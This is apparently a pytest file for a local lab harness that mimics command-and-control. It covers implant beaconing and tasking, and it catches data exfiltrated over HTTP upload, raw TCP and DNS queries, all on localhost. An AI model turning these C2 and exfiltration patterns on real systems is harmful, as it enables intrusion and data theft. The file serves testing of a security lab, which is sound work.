import socket
import subprocess
import sys
import time
import urllib.request

import pytest

from provarmor.lab.services import SHELL_AGENT, TaskQueue, nxdomain, query_name


def dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"


def test_dns_query_names_are_read_and_answered_nxdomain():
    packet = dns_query("6162.x.example")
    assert query_name(packet) == "6162.x.example"
    answer = nxdomain(packet)
    assert answer[:2] == b"\x12\x34" and answer[3] & 0x0F == 3 and answer[12:] == packet[12:]
    assert query_name(b"\x00" * 12 + b"\x50abc") is None


def test_task_queue_hands_tasks_out_once_in_order(tmp_path):
    queue = TaskQueue(tmp_path)
    queue.put("a1", 2, "echo two")
    queue.put("a1", 1, "echo one")
    assert queue.take("a1") == ("0001", "echo one")
    assert queue.take("a1") == ("0002", "echo two")
    assert queue.take("a1") is None and queue.take(SHELL_AGENT) is None
    queue.answer("0001", b"0\none\n")
    assert queue.result("0001") == b"0\none\n" and queue.result("0002") is None


def free_port(kind=socket.SOCK_STREAM) -> int:
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def servers(tmp_path):
    ports = {"http": free_port(), "tcp": free_port(), "dns": free_port(socket.SOCK_DGRAM)}
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "p.txt").write_text("payload")
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "provarmor.lab.services",
            "--bind",
            "127.0.0.1",
            "--root",
            str(tmp_path),
            "--http",
            str(ports["http"]),
            "--tcp",
            str(ports["tcp"]),
            "--dns",
            str(ports["dns"]),
            "--beacon",
            "/b",
            "--result",
            "/r",
            "--lifetime",
            "20",
        ]
    )
    deadline = time.monotonic() + 10
    while not (tmp_path / "ready").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    yield tmp_path, ports
    process.kill()
    process.wait()


def test_servers_serve_payloads_task_implants_and_store_what_they_receive(servers):
    root, ports = servers
    base = f"http://127.0.0.1:{ports['http']}"
    assert urllib.request.urlopen(f"{base}/p.txt").read() == b"payload"
    TaskQueue(root).put("agent7", 1, "id")
    assert urllib.request.urlopen(f"{base}/b/agent7").read() == b"0001\nid"
    assert urllib.request.urlopen(f"{base}/b/agent7").read() == b""
    urllib.request.urlopen(urllib.request.Request(f"{base}/r/0001", data=b"0\nuid=0\n"))
    assert TaskQueue(root).result("0001") == b"0\nuid=0\n"
    urllib.request.urlopen(urllib.request.Request(f"{base}/upload", data=b"stolen"))
    with socket.create_connection(("127.0.0.1", ports["tcp"])) as sock:
        sock.sendall(b"over-nc")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(dns_query("abcd.exfil.lab"), ("127.0.0.1", ports["dns"]))
        assert sock.recv(512)[3] & 0x0F == 3
    time.sleep(0.3)
    received = {p.name: p.read_bytes() for p in (root / "received").iterdir()}
    assert b"stolen" in received.values() and b"over-nc" in received.values()
    assert received["dns.log"].endswith(b" abcd.exfil.lab\n")
